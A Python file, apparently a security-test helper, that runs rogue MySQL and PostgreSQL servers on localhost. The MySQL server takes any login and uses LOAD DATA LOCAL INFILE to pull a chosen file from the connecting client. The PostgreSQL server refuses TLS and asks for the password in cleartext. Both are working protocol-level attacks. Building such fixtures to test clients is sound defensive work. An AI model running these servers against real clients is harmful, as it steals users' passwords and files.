"""MySQL and PostgreSQL servers that are out for passwords and files.

    python rogue_databases.py mysql|postgresql FILE

It is a program of its own, since ML Metadata's client holds the interpreter while it waits. It prints its port, then a
line for whatever it got: `login ...`, `password ...`, `file ...`. FILE is what it asks a MySQL client for. Neither
server speaks TLS, as one that lies in wait for clients that fall back to plain text does not.
"""

from __future__ import annotations

import socket
import struct
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path


def say(*words: object) -> None:
    print(*words, flush=True)


def exactly(connection: socket.socket, count: int) -> bytes:
    data = b""
    while len(data) < count:
        block = connection.recv(count - len(data))
        if not block:
            raise EOFError
        data += block
    return data


def mysql(connection: socket.socket, file: str) -> None:
    """Takes any login, and answers the first query with a request for a file (LOAD DATA LOCAL INFILE)."""

    def send(number: int, body: bytes) -> None:
        connection.sendall(struct.pack("<I", len(body))[:3] + bytes([number % 256]) + body)

    def receive() -> tuple[int, bytes]:
        head = exactly(connection, 4)
        return head[3], exactly(connection, int.from_bytes(head[:3], "little"))

    flags = (0x000FF7FF & ~0x0800) | (1 << 19)  # all of 5.7's but TLS; plug-ins for logins
    low, high = struct.pack("<H", flags & 0xFFFF), struct.pack("<H", flags >> 16)
    scramble = b"12345678\0" + low + b"\x21\x02\0" + high + b"\x15" + bytes(10) + b"901234567890\0"
    fine = b"\0\0\0\x02\0\0\0"
    send(0, b"\x0a5.7.30\0" + struct.pack("<I", 1) + scramble + b"mysql_native_password\0")
    number, login = receive()
    say("login", login[32:].split(b"\0")[0].decode(errors="replace"))
    send(number + 1, fine)
    while True:
        number, query = receive()
        if query[:1] != b"\x03":
            send(number + 1, fine)
            continue
        send(number + 1, b"\xfb" + file.encode())
        number, content = receive()
        say("file", content)
        if content:
            number, _ = receive()
        send(number + 1, fine)


def postgresql(connection: socket.socket, _: str) -> None:
    """Says no to TLS, and asks for the password in the clear."""
    while True:
        (length,) = struct.unpack("!I", exactly(connection, 4))
        (code,) = struct.unpack("!I", exactly(connection, 4))
        begin = exactly(connection, length - 8)
        if code != 80877103:  # SSLRequest
            break
        connection.sendall(b"N")
    say("login", begin)
    connection.sendall(b"R" + struct.pack("!II", 8, 3))
    kind = exactly(connection, 1)
    (length,) = struct.unpack("!I", exactly(connection, 4))
    say("password" if kind == b"p" else "other", exactly(connection, length - 4))


@contextmanager
def rogue(kind: str, file: Path, log: Path) -> Iterator[int]:
    """The server's port; what it says is in `log`."""
    with log.open("w") as out:
        server = subprocess.Popen(
            [sys.executable, __file__, kind, str(file)], stdout=subprocess.PIPE, text=True
        )
        assert server.stdout is not None
        port = int(server.stdout.readline())

        def copy() -> None:
            assert server.stdout is not None
            for line in server.stdout:
                out.write(line)
                out.flush()

        copying = threading.Thread(target=copy)
        copying.start()
        try:
            yield port
        finally:
            server.kill()
            server.wait()
            copying.join()


def main() -> None:
    answer = {"mysql": mysql, "postgresql": postgresql}[sys.argv[1]]
    with socket.create_server(("127.0.0.1", 0)) as listening:
        say(listening.getsockname()[1])
        while True:
            connection, _ = listening.accept()
            with connection:
                try:
                    answer(connection, sys.argv[2])
                except (EOFError, OSError):
                    continue


if __name__ == "__main__":
    main()
